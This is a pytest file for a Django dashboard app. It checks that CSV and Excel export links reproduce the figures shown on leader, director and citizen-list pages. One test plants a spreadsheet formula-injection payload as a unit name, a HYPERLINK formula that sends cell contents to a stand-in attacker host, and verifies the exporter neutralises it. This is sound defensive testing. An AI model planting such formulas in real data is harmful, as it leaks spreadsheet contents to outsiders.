"""Every export link on every page downloads the figures that page shows, for the same period and filters."""

from __future__ import annotations

import csv
import datetime
import html as html_lib
import io
import re

import openpyxl
import pytest
from django.urls import reverse

from figures.comparison import unit_comparison
from figures.periods import resolve_period
from tests.figures.conftest import TODAY, who5

pytestmark = pytest.mark.django_db


def export_links(page: str) -> list[str]:
    """The links that download a table of the page (the analysts' tidy export is a data set, not a table)."""
    hrefs = [html_lib.unescape(h) for h in re.findall(r'href="([^"]+)"', page)]
    return [h for h in hrefs if "_export=" in h]


def absolute(base: str, href: str) -> str:
    assert "??" not in href, href
    return base + href if href.startswith("?") else href


def rows_of(response) -> list[list[str]]:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if response["Content-Type"].startswith("text/csv"):
        text = content.decode("utf-8")
        # "CSV (Excel)" starts with a byte-order mark and uses semicolons; RFC 4180 uses commas.
        delimiter = ";" if text.startswith("\ufeff") else ","
        return list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=delimiter))
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [["" if v is None else str(v) for v in row] for row in book.active.iter_rows(values_only=True)]


def text_of(page: str) -> str:
    return html_lib.unescape(re.sub(r"<[^>]+>", " ", page))


def test_every_export_link_on_the_leaders_pages_gives_the_pages_figures(client, three_units):
    w = three_units
    client.force_login(w.lena)
    for name in ("dashboards:leader_home", "dashboards:unit_dashboard"):
        for query in (
            "",
            f"?period=y{TODAY.year}",
            f"?unit={w.unit_a.pk}&period=q{TODAY.year}-{(TODAY.month - 1) // 3 + 1}",
        ):
            base = reverse(name)
            page = client.get(base + query).content.decode()
            links = export_links(page)
            assert links, (name, query)
            visible = text_of(page)
            for href in links:
                response = client.get(absolute(base, href))
                assert response.status_code == 200, href
                assert "attachment" in response["Content-Disposition"]
                table = rows_of(response)
                assert len(table) >= 1
                for row in table[1:]:
                    # Each exported row is a row on the page: its first cell is shown there (a leading apostrophe
                    # is the writer's neutralisation of a text that looks like a formula, e.g. "-2").
                    assert row[0].removeprefix("'") in visible, (href, row[0])


def test_every_export_link_on_the_directors_page_gives_the_pages_figures(client, three_units):
    w = three_units
    client.force_login(w.charlie)
    base = reverse("dashboards:director_home")
    last_month = TODAY.replace(day=1) - datetime.timedelta(days=1)
    for code in (
        "",
        f"y{TODAY.year}",
        f"q{TODAY.year}-{(TODAY.month - 1) // 3 + 1}",
        "r" + last_month.strftime("%Y-%m"),
    ):
        page = client.get(base + (f"?period={code}" if code else "")).content.decode()
        period = resolve_period(code or "12m", today=TODAY)
        comparison = unit_comparison(user=w.charlie, instrument=who5(), period=period)
        links = export_links(page)
        assert len(links) == 3  # CSV (Excel), CSV (RFC 4180) and Excel
        for href in links:
            response = client.get(absolute(base, href))
            assert response.status_code == 200, href
            stamp = f"{period.start:%Y%m%d}-{period.end:%Y%m%d}"
            assert stamp in response["Content-Disposition"], (code, response["Content-Disposition"])
            table = {row[0]: row for row in rows_of(response)[1:]}
            for r in comparison.rows:
                assert table[r.name][1] == (str(r.active) if not r.suppressed else f"< {comparison.k}")


def test_the_citizen_list_export_link_works(client, three_units):
    w = three_units
    client.force_login(w.alice)
    base = reverse("tracker:citizen_list")
    page = client.get(base).content.decode()
    for href in export_links(page):
        response = client.get(absolute(base, href))
        assert response.status_code == 200 and "attachment" in response["Content-Disposition"]
        assert len(rows_of(response)) > 1


def test_a_formula_like_unit_name_is_text_in_the_directors_files(client, three_units):
    """The director's files go through the one export writer: a unit named like a formula stays text."""
    w = three_units
    w.unit_b.name = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
    w.unit_b.save()
    client.force_login(w.charlie)
    base = reverse("dashboards:director_home")
    book = openpyxl.load_workbook(io.BytesIO(client.get(base + "?_export=xlsx").content))
    cells = [c for row in book.active.iter_rows() for c in row]
    assert not any(c.data_type == "f" for c in cells)
    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
    text = client.get(base + "?_export=csv-excel").content.decode("utf-8")
    assert text.startswith("\ufeff") and ";" in text.splitlines()[0]
    assert "'=HYPERLINK" in text
